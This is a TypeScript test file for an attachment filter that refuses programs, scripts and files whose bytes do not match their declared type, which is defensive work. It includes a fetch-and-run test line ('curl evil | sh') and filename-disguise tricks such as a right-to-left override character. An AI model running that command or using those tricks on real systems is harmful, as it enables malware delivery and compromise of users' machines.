import { crc32 } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { judgeFile, refusalText, type FilePolicy } from './judge.js';
import { defaultAttachmentTypes } from '../config.js';

// Real bytes, built here: the signatures each format starts with, and zip files made in memory.
const pdf = Buffer.from(
  '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
);
const png = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000' + '1f15c489', 'hex');
const jpeg = Buffer.concat([Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), Buffer.alloc(64)]);
const gif = Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1');
const pe = (() => {
  const b = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(120)]);
  b.writeUInt32LE(0x40, 0x3c);
  b.write('PE\0\0', 0x40, 'latin1');
  return b;
})();
const elf = Buffer.concat([
  Buffer.from('7f454c46020101000000000000000000', 'hex'),
  Buffer.from('02003e00', 'hex'),
  Buffer.alloc(40),
]);
const machO = Buffer.concat([Buffer.from('cffaedfe07000001030000000200', 'hex'), Buffer.alloc(40)]);
const cfb = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);
const text = Buffer.from('Date,User,Event\n2026-11-22,alice,VPN dropped\n2026-11-22,alice,VPN dropped again\n');
const binary = Buffer.from([0x00, 0x13, 0x37, 0x00, 0xde, 0xad, 0xbe, 0xef, 0x00, 0x01, 0x02, 0x03, 0x04, 0x05]);

/** A zip archive (stored, not deflated) of the given files. */
function zip(files: Record<string, string>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of Object.entries(files)) {
    const data = Buffer.from(content);
    const path = Buffer.from(name);
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(path.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(path.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, path, data);
    centrals.push(central, path);
    offset += local.length + path.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(files).length, 8);
  end.writeUInt16LE(Object.keys(files).length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const ooxml = (part: string, main: string) =>
  zip({
    '[Content_Types].xml':
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      `<Override PartName="/${part}" ContentType="application/vnd.openxmlformats-officedocument.${main}+xml"/></Types>`,
    [part]: '<?xml version="1.0"?><root/>',
  });
const docx = ooxml('word/document.xml', 'wordprocessingml.document.main');
const xlsx = ooxml('xl/workbook.xml', 'spreadsheetml.sheet.main');
const plainZip = zip({ 'logs/vpn.log': 'dropped at 09:58' });
const jar = zip({ 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\nMain-Class: Fix\n', 'Fix.class': 'x' });

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

// The default of EMAIL_ATTACHMENT_TYPES.
const policy: FilePolicy = {
  maxBytes: 10 * 1024 * 1024,
  types: [...defaultAttachmentTypes],
};

const judge = (filename: string, declaredType: string, bytes: Buffer, p: FilePolicy = policy) =>
  judgeFile({ filename, declaredType, bytes }, p);

describe('judgeFile: a file is what its bytes say', () => {
  it('keeps a file whose bytes, declared type and name agree, as the type its bytes have', async () => {
    expect(await judge('vpn-log.pdf', 'application/pdf', pdf)).toEqual({
      kept: true,
      contentType: 'application/pdf',
      detectedType: 'application/pdf',
    });
    expect(await judge('screenshot.png', 'image/png', png)).toMatchObject({ kept: true, contentType: 'image/png' });
    expect(await judge('photo.jpg', 'image/jpg', jpeg)).toMatchObject({ kept: true, contentType: 'image/jpeg' });
    expect(await judge('scan.PDF', 'application/x-pdf; name="scan.PDF"', pdf)).toMatchObject({
      kept: true,
      contentType: 'application/pdf',
    });
  });

  it('refuses programs whatever they claim: PE, ELF, Mach-O, by their bytes', async () => {
    for (const [name, type, bytes] of [
      ['invoice.pdf.exe', 'application/pdf', pe],
      ['invoice.pdf', 'application/pdf', pe],
      ['notes.txt', 'text/plain', elf],
      ['photo.png', 'image/png', machO],
      ['update', 'application/octet-stream', pe],
      ['tool.zip', 'application/zip', jar],
    ] as const) {
      expect(await judge(name, type, bytes), name).toMatchObject({ kept: false, reason: 'executable' });
    }
    expect(await judge('invoice.pdf.exe', 'application/pdf', pe)).toMatchObject({
      detectedType: 'application/x-msdownload',
    });
  });

  it('refuses scripts and installers by their name (they have no magic bytes), double extensions included', async () => {
    for (const ext of [
      'exe',
      'dll',
      'bat',
      'cmd',
      'com',
      'scr',
      'js',
      'vbs',
      'ps1',
      'msi',
      'jar',
      'sh',
      'app',
      'lnk',
      'hta',
      'iso',
    ]) {
      expect(await judge(`fix.${ext}`, 'text/plain', text), ext).toMatchObject({ kept: false, reason: 'executable' });
      expect(await judge(`report.pdf.${ext}`, 'application/octet-stream', text), ext).toMatchObject({
        kept: false,
        reason: 'executable',
      });
    }
    // What Windows runs: trailing dots and spaces dropped, direction marks that hide the real extension.
    for (const name of ['invoice.exe.', 'invoice.exe  ', 'invoice\u202Efdp.exe', 'INVOICE.PDF.EXE'])
      expect(await judge(name, 'application/pdf', pdf), name).toMatchObject({ kept: false, reason: 'executable' });
    // A script by its first line, whatever its name.
    expect(await judge('notes.txt', 'text/plain', Buffer.from('#!/bin/sh\ncurl evil | sh\n'))).toMatchObject({
      kept: false,
      reason: 'executable',
    });
    expect(await judge('readme.txt', 'application/x-msdownload', text)).toMatchObject({ reason: 'executable' });
  });

  it('refuses a file whose bytes are not what its declared type or its name says', async () => {
    for (const [name, type, bytes] of [
      ['receipt.pdf', 'application/pdf', png],
      ['receipt.png', 'image/png', pdf],
      ['receipt.png', 'application/pdf', pdf],
      ['receipt.pdf', 'application/pdf', text],
      ['receipt.pdf', 'application/octet-stream', binary],
      ['notes.txt', 'text/plain', binary],
      ['notes.txt', 'text/plain', pdf],
      ['budget.xlsx', XLSX, docx],
      ['letter.docx', DOCX, pdf],
    ] as const) {
      expect(await judge(name, type, bytes), `${name} ${type}`).toMatchObject({ kept: false, reason: 'type_mismatch' });
    }
    expect(await judge('receipt.pdf', 'application/pdf', png)).toMatchObject({
      detectedType: 'image/png',
      detail: 'declared as application/pdf but the content is image/png',
    });
  });

  it('text has no signature: judged by declared type and name, and refused when its bytes are binary', async () => {
    expect(await judge('events.csv', 'text/csv', text)).toMatchObject({ kept: true, contentType: 'text/csv' });
    // Excel on Windows declares CSV files as its own type.
    expect(await judge('events.csv', 'application/vnd.ms-excel', text)).toMatchObject({
      kept: true,
      contentType: 'text/csv',
    });
    expect(await judge('notes.txt', 'application/octet-stream', text)).toMatchObject({
      kept: true,
      contentType: 'text/plain',
    });
    expect(await judge('notes', 'text/plain; charset=utf-8', text)).toMatchObject({
      kept: true,
      contentType: 'text/plain',
    });
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Name,Seat\n', 'utf16le')]);
    expect(await judge('seats.txt', 'text/plain', utf16)).toMatchObject({ kept: true, contentType: 'text/plain' });
    expect(
      await judge(
        'Forwarded message.eml',
        'message/rfc822',
        Buffer.from('From: a@example.com\r\nSubject: hi\r\n\r\nhello\r\n'),
      ),
    ).toMatchObject({ kept: true, contentType: 'message/rfc822' });
  });

  it('Office files are zip (or CFB) containers: the container and the format in it agree', async () => {
    expect(await judge('letter.docx', DOCX, docx)).toMatchObject({ kept: true, contentType: DOCX, detectedType: DOCX });
    // Declared as a zip, detected as what is inside.
    expect(await judge('letter.docx', 'application/zip', docx)).toMatchObject({ kept: true, contentType: DOCX });
    expect(await judge('letter.zip', 'application/x-zip-compressed', docx)).toMatchObject({
      kept: true,
      contentType: DOCX,
    });
    // Detected only as a zip, declared and named as a document: a document.
    expect(await judge('letter.docx', DOCX, plainZip)).toMatchObject({
      kept: true,
      contentType: DOCX,
      detectedType: 'application/zip',
    });
    expect(await judge('budget.xlsx', 'application/octet-stream', xlsx)).toMatchObject({
      kept: true,
      contentType: XLSX,
    });
    expect(await judge('logs.zip', 'application/zip', plainZip)).toMatchObject({
      kept: true,
      contentType: 'application/zip',
    });
    expect(await judge('old.doc', 'application/msword', cfb)).toMatchObject({
      kept: true,
      contentType: 'application/msword',
      detectedType: 'application/x-cfb',
    });
    expect(await judge('old.xls', 'application/msword', cfb)).toMatchObject({ kept: false, reason: 'type_mismatch' });
    expect(await judge('setup.msi', 'application/msword', cfb)).toMatchObject({ kept: false, reason: 'executable' });
  });

  it('application/octet-stream: the type found in the bytes is checked against the list', async () => {
    expect(await judge('image001', 'application/octet-stream', png)).toMatchObject({
      kept: true,
      contentType: 'image/png',
    });
    expect(await judge('blob', 'application/octet-stream', binary)).toMatchObject({
      kept: false,
      reason: 'type_not_allowed',
    });
  });

  it('the list and the size limit apply to the type found, not the one declared', async () => {
    const pngOnly = { ...policy, types: ['image/png'] };
    expect(await judge('cat.png', 'image/png', gif, pngOnly)).toMatchObject({
      kept: false,
      reason: 'type_not_allowed',
      detectedType: 'image/gif',
    });
    expect(await judge('big.pdf', 'application/pdf', pdf, { ...policy, maxBytes: 10 })).toMatchObject({
      kept: false,
      reason: 'too_large',
    });
  });

  it('says each refusal in words a person reads on the ticket', () => {
    expect(refusalText('executable')).toBe('a program');
    expect(refusalText('type_mismatch')).toBe('its content is not what its name or type says');
  });
});
